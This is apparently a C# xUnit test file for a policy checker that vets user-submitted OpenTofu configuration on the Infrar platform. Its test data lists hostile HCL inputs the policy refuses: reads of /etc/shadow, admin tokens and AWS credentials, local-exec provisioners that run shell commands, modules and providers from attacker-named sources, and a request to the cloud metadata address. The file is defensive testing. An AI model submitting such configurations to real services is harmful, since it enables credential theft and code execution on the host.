using Infrar.Platform.Policies;
using Infrar.Platform.Policies.Hcl;
using Infrar.Testing;
using Xunit;

namespace Infrar.Platform.Tests.Policies;

/// <summary>
/// What submitted OpenTofu may contain. Everything Infrar's build writes passes, on every provider; each way a deployer
/// could run code, read the service's files, move state or reach another provider is refused with its file, line and
/// rule, however it is spelled.
/// </summary>
public sealed class InfraPolicyTests
{
    private static readonly InfraPolicy Policy = InfraPolicy.Default;

    [Theory]
    [InlineData("local")]
    [InlineData("aws")]
    [InlineData("gcp")]
    [InlineData("azure")]
    public void What_the_build_writes_for_each_provider_passes(string provider)
    {
        var files = BuildOutput(provider);
        Assert.True(files.Count >= 4, $"the {provider} snapshot has its files");
        Assert.Empty(Policy.Check(files, provider));
    }

    [Fact]
    public void The_allowlist_is_what_the_catalog_declares_pinned_with_the_arguments_its_provider_blocks_set()
    {
        var providers = Policy.Providers.Providers.ToDictionary(p => p.LocalName);
        Assert.Equal(["aws", "azurerm", "google", "terraform"], providers.Keys.Order(StringComparer.Ordinal));
        Assert.Equal("~> 6.0", providers["aws"].Version);
        Assert.Equal(["region"], providers["aws"].Configuration!.Order(StringComparer.Ordinal));
        Assert.Equal(["features", "subscription_id"], providers["azurerm"].Configuration!.Order(StringComparer.Ordinal));
        Assert.Equal(["project", "region"], providers["google"].Configuration!.Order(StringComparer.Ordinal));
    }

    [Theory]
    // Reading the service's files at plan time, in every spelling the language allows.
    [InlineData("""output "t" { value = file("../../admin-token") }""", 1, "no-file-functions")]
    [InlineData("""output "t" { value = filebase64("/var/lib/infrar/credentials.key") }""", 1, "no-file-functions")]
    [InlineData("locals {\n  x = \"${file(\"/etc/shadow\")}\"\n}", 2, "no-file-functions")]
    [InlineData("locals {\n  x = <<EOT\nkey: ${templatefile(\"/data/infrar.db\", {})}\nEOT\n}", 3, "no-file-functions")]
    [InlineData("locals {\n  x = [file\n    (\"/data/admin-token\")]\n}", 2, "no-file-functions")]
    [InlineData("locals {\n  x = core::file(\"/data/admin-token\")\n}", 2, "no-file-functions")]
    [InlineData("locals {\n  x = fileset(\"/\", \"**\")\n}", 2, "no-file-functions")]
    [InlineData("locals {\n  x = templatestring(\"$${file(\\\"/data/admin-token\\\")}\", {})\n}", 2, "no-file-functions")]
    [InlineData("locals {\n  x = pathexpand(\"~/../../data\")\n}", 2, "no-file-functions")]
    [InlineData("locals {\n  x = pathexpand(var.where)\n}", 2, "no-file-functions")]
    [InlineData("locals {\n  x = sneaky::file(\"/data\")\n}", 2, "no-file-functions")]
    // Running commands.
    [InlineData("resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"cat /data/admin-token\"\n  }\n}", 2, "no-provisioners")]
    [InlineData("resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    interpreter = [\"sh\", \"-c\"]\n    command     = \"id\"\n  }\n}", 2, "no-provisioners")]
    [InlineData("resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    interpreter = [\"mkdir\", \"-p\", \"--\"]\n    command     = self.input\n    environment = { A = \"b\" }\n  }\n}", 2, "no-provisioners")]
    [InlineData("resource \"terraform_data\" \"x\" {\n  provisioner \"remote-exec\" {\n    inline = [\"id\"]\n  }\n}", 2, "no-provisioners")]
    [InlineData("data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"cat /data/admin-token\"]\n}", 1, "no-external")]
    // Code and state from elsewhere.
    [InlineData("module \"m\" {\n  source = \"git::https://example.com/evil.git\"\n}", 1, "no-modules")]
    [InlineData("import {\n  to = aws_s3_bucket.x\n  id = \"someone-elses-bucket\"\n}", 1, "no-imports")]
    [InlineData("terraform {\n  backend \"local\" {\n    path = \"/data/state/environment-2/terraform.tfstate\"\n  }\n}", 2, "no-backend")]
    [InlineData("terraform {\n  cloud {\n    organization = \"x\"\n  }\n}", 2, "no-backend")]
    [InlineData("data \"terraform_remote_state\" \"other\" {\n  backend = \"local\"\n}", 1, "no-remote-state")]
    [InlineData("terraform {\n  required_providers {\n    evil = {\n      source = \"attacker/evil\"\n    }\n  }\n}", 3, "provider-allowlist")]
    [InlineData("terraform {\n  required_providers {\n    aws = {\n      source = \"registry.example.com/hashicorp/aws\"\n    }\n  }\n}", 3, "provider-allowlist")]
    [InlineData("resource \"null_resource\" \"x\" {}", 1, "provider-allowlist")]
    [InlineData("data \"http\" \"x\" {\n  url = \"http://169.254.169.254/\"\n}", 1, "provider-allowlist")]
    [InlineData("provider \"aws\" {\n  region = \"us-east-1\"\n  shared_credentials_files = [\"/root/.aws/credentials\"]\n}", 3, "provider-configuration")]
    [InlineData("provider \"aws\" {\n  endpoints {\n    s3 = \"http://attacker.example\"\n  }\n}", 2, "provider-configuration")]
    [InlineData("terraform {\n  experiments = [x]\n}", 2, "terraform-settings")]
    [InlineData("check \"c\" {\n  data \"http\" \"x\" {\n    url = \"http://a\"\n  }\n}", 1, "block-type")]
    // What the policy cannot read, it refuses.
    [InlineData("locals {\n  x = \"unterminated\n}", 2, "syntax")]
    [InlineData("locals {\n  x = \"\\q\"\n}", 2, "syntax")]
    [InlineData("resource \"terraform_data\" \"x\" {", 1, "syntax")]
    public void Each_attack_is_refused_with_its_line_and_rule(string hcl, int line, string rule)
    {
        var violations = Policy.Check(new Dictionary<string, string> { ["main.tf"] = hcl }, "aws");
        var violation = Assert.Single(violations, v => v.Rule == rule);
        Assert.Equal("main.tf", violation.File);
        Assert.Equal(line, violation.Line);
        Assert.StartsWith($"main.tf:{line}: ", violation.ToString(), StringComparison.Ordinal);
        Assert.EndsWith($"(rule {rule})", violation.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("override.tf", "override file")]
    [InlineData("main_override.tf", "override file")]
    [InlineData("terraform.tfvars", "variables come only from the environment")]
    [InlineData("prod.auto.tfvars", "variables come only from the environment")]
    [InlineData("x.tfvars.json", "variables come only from the environment")]
    [InlineData("main.tf.json", "JSON syntax is not accepted")]
    [InlineData("../escape.tf", "not a plain file name")]
    [InlineData(".terraformrc", "not a plain file name")]
    [InlineData("infrar_backend.tf", "kept for the files the service writes")]
    [InlineData("readme.md", "is not a .tf file")]
    public void Only_plain_tf_files_are_accepted_never_overrides_or_variables(string name, string why)
    {
        var violation = Assert.Single(Policy.Check(new Dictionary<string, string> { [name] = "", ["main.tf"] = "" }, "aws"));
        Assert.Equal("file-name", violation.Rule);
        Assert.Contains(why, violation.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_local_folder_provisioner_is_accepted_only_in_its_exact_form_and_only_on_local()
    {
        var local = BuildOutput("local");
        Assert.Empty(Policy.Check(local, "local"));
        Assert.Contains(Policy.Check(local, "aws"), v => v.Rule == "no-provisioners");

        var shell = local.ToDictionary(f => f.Key, f => f.Value.Replace("interpreter = [\"mkdir\", \"-p\", \"--\"]", "interpreter = [\"/bin/sh\", \"-c\"]", StringComparison.Ordinal));
        Assert.Contains(Policy.Check(shell, "local"), v => v.Rule == "no-provisioners");
    }

    [Fact]
    public void Text_that_only_looks_like_a_call_is_not_one()
    {
        var hcl = """
            # file("/etc/passwd") in a comment
            /* templatefile("x", {}) */
            variable "note" {
              description = "reads file(\"x\") at $${file(\"y\")}, but only as text"
              type        = string
              default     = <<-EOT
                file("z") is just words here
              EOT
            }

            locals {
              home  = pathexpand("~/.local/share/infrar/storage")
              upper = upper("file")
            }
            """;
        Assert.Empty(Policy.Check(new Dictionary<string, string> { ["main.tf"] = hcl }, "local"));
    }

    [Fact]
    public void Size_limits_are_kept_before_anything_is_parsed()
    {
        var many = Enumerable.Range(0, InfraPolicy.MaxFiles + 1).ToDictionary(i => $"f{i}.tf", _ => "");
        Assert.Equal("size", Assert.Single(Policy.Check(many, "aws")).Rule);
        var big = new Dictionary<string, string> { ["main.tf"] = new string('#', InfraPolicy.MaxFileBytes + 1) };
        Assert.Equal("size", Assert.Single(Policy.Check(big, "aws")).Rule);
    }

    [Fact]
    public void An_admin_can_allow_another_provider_source()
    {
        var files = new Dictionary<string, string> { ["main.tf"] = "resource \"random_id\" \"x\" {\n  byte_length = 4\n}" };
        Assert.Contains(Policy.Check(files, "aws"), v => v.Rule == "provider-allowlist");
        Assert.Empty(new InfraPolicy(Policy.Providers.With(["hashicorp/random"])).Check(files, "aws"));
    }

    [Fact]
    public void The_lexer_splits_templates_into_literal_text_and_the_tokens_of_each_interpolation()
    {
        var tokens = HclLexer.Tokenize("a = \"x${f(\"y${g(1)}\")}z\"\n");
        var kinds = tokens.Select(t => t.Kind == HclTokenKind.Punctuation || t.Kind == HclTokenKind.Identifier ? t.Text : t.Kind.ToString()).ToList();
        Assert.Equal(
            ["a", "=", "QuotedStart", "TemplateLiteral", "TemplateInterpolation", "f", "(", "QuotedStart", "TemplateLiteral", "TemplateInterpolation", "g", "(", "Number", ")",
             "TemplateSequenceEnd", "QuotedEnd", ")", "TemplateSequenceEnd", "TemplateLiteral", "QuotedEnd", "Newline", "End"],
            kinds);
    }

    /// <summary>The files of the build's infra folder for a provider, from the build tests' snapshot of the sample.</summary>
    private static Dictionary<string, string> BuildOutput(string provider)
    {
        var snapshot = File.ReadAllText(Path.Combine(RepositoryRoot.Path, "tests", "Infrar.Build.Tests", "Infrastructure", "Snapshots", $"{provider}.tf.txt"));
        return snapshot.Split("### ", StringSplitOptions.RemoveEmptyEntries)
            .Select(section => section.Split('\n', 2))
            .ToDictionary(parts => parts[0].Trim(), parts => parts[1]);
    }
}
